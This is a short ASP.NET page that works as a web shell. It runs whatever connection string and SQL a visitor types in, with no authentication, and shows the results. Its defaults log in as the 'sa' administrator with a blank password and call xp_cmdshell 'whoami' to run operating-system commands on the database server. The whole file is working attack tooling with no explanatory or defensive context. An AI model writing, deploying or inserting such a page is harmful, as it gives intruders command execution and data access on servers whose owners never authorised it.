<%@ Page Language="C#" %>
<%@ Import Namespace="System.Data" %>
<%@ Import Namespace="System.Data.SqlClient" %>
<script runat="server">
    protected void Exec(object sender, EventArgs e) {
        using (SqlConnection conn = new SqlConnection(txtConn.Text)) {
            conn.Open();
            SqlCommand cmd = conn.CreateCommand();
            cmd.CommandText = txtSql.Text;
            var da = new SqlDataAdapter(cmd); var dt = new DataTable(); da.Fill(dt);
            grid.DataSource = dt; grid.DataBind();
        }
    }
</script>
<form runat="server">
Conn: <asp:TextBox id="txtConn" runat="server" Text="server=.;uid=sa;pwd=;database=master" Width="600" />
<asp:TextBox id="txtSql" runat="server" TextMode="MultiLine" Text="exec master..xp_cmdshell 'whoami'" />
<asp:Button runat="server" Text="Exec" OnClick="Exec" /><asp:GridView id="grid" runat="server" />
</form>
